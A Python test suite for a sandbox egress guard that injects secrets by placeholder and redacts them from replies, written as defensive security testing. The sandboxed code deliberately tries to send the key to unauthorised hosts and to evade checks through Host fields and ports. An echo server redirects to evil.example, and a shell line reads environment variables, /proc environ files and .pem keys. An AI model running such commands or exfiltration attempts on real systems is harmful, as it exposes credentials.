"""Secrets that a sandbox knows by placeholders: they reach the hosts that they are for, and nobody gets them out.

The code in the sandbox is hostile here: it tries to send the secret elsewhere, and to make a host repeat it.
"""

import asyncio
import base64
import json
import ssl
from collections.abc import AsyncIterator, Mapping, Sequence
from contextlib import asynccontextmanager, suppress
from pathlib import Path
from urllib.parse import quote

import pytest

from tercet.egress import Guard, Injection, Limits, Policy, Variable, system_authorities
from tercet.egress.authority import Authority
from tercet.egress.injection import Redactor
from tercet.egress.tls import TlsStreams
from tercet.sandbox import Network, Sandbox, SandboxSpec, confinement, open_sandbox
from tests.egress.test_tls import TlsHost, certificate
from tests.egress.world import OTHER, Streams, World, hang_up

HOLDER = "tercet_secret_0123456789abcdef"
VALUE = 's3cret/"value" & more+'
HEAD_S = 5.0
OPEN = Policy(access="restricted", allowed_domains=("shop.example", "other.example"), ports=(80, 443, 444, 8443))


class Echo(TlsHost):
    """Repeats everything that it is asked, in many forms and cut into small chunks, in body, fields and redirect."""

    async def answer(self, head: str, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        lines = head.split("\r\n")
        fields = {name.lower(): value for name, _, value in (line.partition(": ") for line in lines[1:])}
        body = await reader.readexactly(int(fields.get("content-length", "0")))
        self.requests[-1] += body.decode()
        basic = fields.get("authorization", "").removeprefix("Basic ")
        said = {
            "line": lines[0],
            "fields": fields,
            "body": body.decode(),
            "basic": basic,
            "quoted": quote(VALUE if VALUE in head else "nothing"),
            "packed": base64.b64encode(VALUE.encode() if VALUE in head else b"nothing").decode(),
        }
        text = (json.dumps(said) + fields.get("x-key", "")).encode()
        path = lines[0].split(" ")[1]
        if path.startswith("/slow"):
            await asyncio.sleep(HEAD_S + 1)
        if path.startswith("/packed"):
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 3\r\n\r\nabc")
            return
        writer.write(f"HTTP/1.1 200 OK {fields.get('x-key', '')}\r\nTransfer-Encoding: chunked\r\n".encode())
        writer.write(f"Location: https://evil.example/?{path}\r\nX-Echo: {fields.get('x-key', '')}\r\n\r\n".encode())
        for begin in range(0, len(text), 5):
            piece = text[begin : begin + 5]
            writer.write(b"%x\r\n%b\r\n" % (len(piece), piece))
            await writer.drain()
        writer.write(b"0\r\n\r\n")


class Outside(World):
    """A world in which two hosts speak TLS."""

    def __init__(self, shop: Echo, other: Echo) -> None:
        super().__init__()
        self.shop, self.other = shop, other

    async def connect(self, address: str, port: int, *, limit: int = 65_536) -> Streams:
        if port not in (443, 8443):
            return await super().connect(address, port, limit=limit)
        host = self.other if address == OTHER else self.shop
        return await asyncio.open_connection("127.0.0.1", host.port, limit=limit)


@asynccontextmanager
async def outside(folder: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[tuple[Echo, Echo, World]]:
    """Run such a world, whose certificates this machine trusts."""
    hosts = []
    trusted = system_authorities()
    for name in ("shop.example", "other.example"):
        (folder / name).mkdir()
        path = certificate(folder / name, name)
        trusted += "-----BEGIN CERT" + path.read_text().partition("-----BEGIN CERT")[2]
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(path)
        hosts.append(Echo("", context))
    (folder / "trusted.pem").write_text(trusted)
    monkeypatch.setenv("SSL_CERT_FILE", str(folder / "trusted.pem"))
    shop, other = hosts
    made = Outside(shop, other)
    listeners = (shop, other, made.public, made.victim)
    for listener in listeners:
        await listener.start()
    try:
        yield shop, other, made
    finally:
        for listener in listeners:
            await listener.close()


async def reveal(placeholders: Sequence[str]) -> Mapping[str, str]:
    return dict.fromkeys(placeholders, VALUE)


@asynccontextmanager
async def confined(
    folder: Path, made: World, policy: Policy = OPEN, hosts: tuple[str, ...] | None = ("shop.example",)
) -> AsyncIterator[tuple[Sandbox, Guard]]:
    """Open a sandbox whose one variable is for `hosts`."""
    if (await confinement()).kind != "bubblewrap":
        pytest.skip("needs bubblewrap: the other kinds of sandbox serve no network")
    injected = Injection((Variable(HOLDER, hosts),), reveal)
    limits = Limits(head_s=HEAD_S)
    guard = Guard(policy, limits=limits, resolve=made.resolve, connect=made.connect, injected=injected)
    await guard.start(folder / "out.sock")
    assert guard.authority is not None
    assert guard.socket is not None
    trust = folder / "authorities.pem"
    trust.write_text(system_authorities() + guard.authority.pem)
    network = Network(proxy_socket=guard.socket, authorities=trust)
    box = await open_sandbox(SandboxSpec(workspace=folder / "work", network=network, environment={"KEY": HOLDER}))
    try:
        yield box, guard
    finally:
        await box.close()
        await guard.close()


CODE = """
import json, os, ssl, sys, urllib.error, urllib.request
class Stay(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *_): return None
opener = urllib.request.build_opener(Stay)
key = os.environ["KEY"]
def ask(url, body=None, method=None, **fields):
    fields = {name.replace("_", "-"): value for name, value in fields.items()}
    request = urllib.request.Request(url.replace("KEY", key), body, fields, method=method)
    try:
        answer = opener.open(request, timeout=30)
    except urllib.error.HTTPError as error:
        answer = error
    except Exception as error:
        return f"{type(error).__name__}: {error}"
    with answer:
        return f"{answer.status} {dict(answer.headers)} {answer.read().decode()}"
"""


BASIC = """
import base64
ask('https://shop.example/', authorization='Basic ' + base64.b64encode(f'me:{key}'.encode()).decode())
"""
JSON = "ask('https://shop.example/', json.dumps({'k': key}).encode(), content_type='application/json')"
SHOW = """
import socket
line = socket.create_connection(('127.0.0.1', 3128))
line.sendall(b'CONNECT NAME:443 HTTP/1.1\\r\\nHost: NAME:443\\r\\n\\r\\n')
line.recv(999)
ssl._create_unverified_context().wrap_socket(line, server_hostname='NAME').getpeercert(True)
"""
LOOK = "env; cat /proc/*/environ; cat /tercet/*.pem; grep -rsl s3cret /workspace /tmp /tercet /etc"


async def run(box: Sandbox, code: str) -> str:
    cell = await box.interpreter().execute(CODE + code, timeout_s=90)
    return f"{cell.value} {cell.error} {cell.stdout.text} {cell.stderr.text}"


@pytest.mark.timeout(240)
async def test_a_secret_reaches_its_host_and_nobody_else(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async with outside(tmp_path, monkeypatch) as (shop, other, made), confined(tmp_path, made) as (box, guard):
        assert HOLDER in await run(box, "key")
        # put in: fields, Basic authorization, path and query, bodies by their type
        said = await run(box, "ask('https://shop.example/a?k=KEY', x_key=key, authorization='Bearer ' + key)")
        head = shop.requests[-1]
        assert f"Bearer {VALUE}" in head
        assert f"x-key: {VALUE}".lower() in head.lower()
        assert f"/a?k={quote(VALUE, safe='')} " in head
        assert "accept-encoding: identity" in head.lower()
        said += await run(box, BASIC)
        assert base64.b64encode(f"me:{VALUE}".encode()).decode() in shop.requests[-1]
        said += await run(box, JSON)
        assert json.loads(shop.requests[-1].partition("\r\n\r\n")[2]) == {"k": VALUE}
        said += await run(box, "ask('https://shop.example:8443/', b'k=' + key.encode())")
        assert shop.requests[-1].endswith(f"k={quote(VALUE, safe='').replace('%20', '+')}")
        said += await run(box, "ask('https://shop.example/', key.encode(), method='PUT', content_type='text/plain')")
        assert shop.requests[-1].endswith(VALUE)
        # what the host repeats comes back as the placeholder, in every form of it
        assert said.count(HOLDER) > 10
        assert not leaks(said), said
        # not put in: another host, a name below, plain http, another port, another host by SNI or Host field
        said = await run(box, "ask('https://other.example/?k=KEY', x_key=key)")
        assert HOLDER in other.requests[-1]
        assert VALUE not in other.requests[-1]
        num_asked = len(shop.requests)
        for attack in (
            "ask('https://www.shop.example/?k=KEY')",
            "ask('http://shop.example/?k=KEY')",
            "ask('http://shop.example/', x_key=key)",
            "ask('https://shop.example/', x_key=key, host='other.example')",
            "ask('https://shop.example:444/', x_key=key)",
        ):
            said += await run(box, attack)
        assert len(shop.requests) == num_asked
        assert guard.tally["in_clear"] == 2
        assert guard.tally["host_mismatch"] == 1
        assert not any(leaks(request) for request in made.public.requests)
        await run(box, "ask('https://shop.example/', x_key=key, range='bytes=0-5')")
        assert "range" not in shop.requests[-1].lower()
        said += await run(box, "ask('https://shop.example/slow', x_key=key)")
        assert "/slow" in said, "an answer may take longer than a head"
        # an answer that cannot be looked through is not passed on
        said += await run(box, "ask('https://shop.example/packed', x_key=key)")
        assert "encoded" in said
        assert "200" in await run(box, "ask('https://shop.example/packed')")
        # nowhere in the sandbox
        found = await box.run(["/bin/sh", "-c", LOOK], timeout_s=60)
        assert not leaks(said + found.stdout.text + found.stderr.text)
        assert "PRIVATE" not in found.stdout.text


def leaks(text: str) -> bool:
    """Tell whether the secret stands in a text, in a form that it can be read from."""
    raw = VALUE.encode()
    forms = [VALUE, quote(VALUE, safe=""), json.dumps(VALUE)[1:-1], base64.b64encode(raw).decode().rstrip("=")]
    return any(form in text for form in [*forms, base64.b64encode(b"me:" + raw).decode(), "s3cret"])


@pytest.mark.timeout(240)
async def test_a_secret_for_all_allowed_domains_covers_what_the_policy_does(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    policy = Policy(access="restricted", allowed_domains=("other.example",))
    async with (
        outside(tmp_path, monkeypatch) as (shop, other, made),
        confined(tmp_path, made, policy, None) as (box, _),
    ):
        said = await run(box, "ask('https://other.example/', x_key=key)")
        assert VALUE in other.requests[-1]
        said += await run(box, "ask('https://shop.example/', x_key=key)")
        assert not shop.requests
        assert not leaks(said)


@pytest.mark.timeout(240)
async def test_the_guard_speaks_only_for_the_hosts_of_secrets_and_trusts_what_the_machine_trusts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with outside(tmp_path, monkeypatch) as (shop, _, made):
        async with confined(tmp_path, made) as (box, guard):
            ours, theirs = [await run(box, SHOW.replace("NAME", name)) for name in ("shop.example", "other.example")]
            assert "egress guard" in ours
            assert "egress guard" not in theirs
        (tmp_path / "others.pem").write_text(Authority(["others.example"]).pem)
        monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "others.pem"))
        async with confined(tmp_path, made) as (box, guard):
            said = await run(box, "ask('https://shop.example/', x_key=key)")
            assert "not trusted" in said
            assert not shop.requests
            assert guard.tally["untrusted"] == 1


@pytest.mark.timeout(240)
async def test_operators_hosts_get_secrets_without_tls(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    policy = Policy(access="restricted", allowed_domains=("shop.example",), allow=("shop.example:80",))
    async with outside(tmp_path, monkeypatch) as (_, _, made), confined(tmp_path, made, policy) as (box, _):
        made.public.pages["/"] = ("text/plain", f"you sent {VALUE}".encode())
        said = await run(box, "ask('http://shop.example/', x_key=key)")
        assert VALUE in made.public.requests[-1]
        assert f"you sent {HOLDER}" in said
        assert not leaks(said)


async def test_a_certificate_for_any_other_host_is_not_believed(tmp_path: Path) -> None:
    """The authority cannot be used against other hosts even by who has its key."""
    guard = Guard(OPEN, injected=Injection((Variable(HOLDER, ("shop.example",)),), reveal))
    assert guard.authority is not None
    trust = ssl.create_default_context(cadata=guard.authority.pem)
    for name, is_believed in (("shop.example", True), ("other.example", False)):
        assert await shakes_hands(guard.authority.context(name), trust, name) is is_believed


async def shakes_hands(server: ssl.SSLContext, client: ssl.SSLContext, name: str) -> bool:
    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError):
            await TlsStreams((reader, writer), server, name, is_server=True).shake_hands()
        await hang_up(writer)
        ended.set()

    ended = asyncio.Event()
    listener = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with listener:
        reader, writer = await asyncio.open_connection(*listener.sockets[0].getsockname())
        try:
            await TlsStreams((reader, writer), client, name, is_server=False).shake_hands()
        except ssl.SSLCertVerificationError:
            return False
        finally:
            await hang_up(writer)
            await ended.wait()
        return True


@pytest.mark.parametrize("size", [1, 2, 3, 7, 100])
def test_a_stream_is_looked_through_wherever_it_is_divided(size: int) -> None:
    redactor = Redactor({b"secret": b"<>", b"sec": b"[]", b"tetes": b"!"})
    text = b"se sec secret secrets tetetes secre" * 3
    passed = b"".join(redactor.feed(text[at : at + size]) for at in range(0, len(text), size)) + redactor.end()
    assert passed == b"se [] <> <>s te! []re" * 3
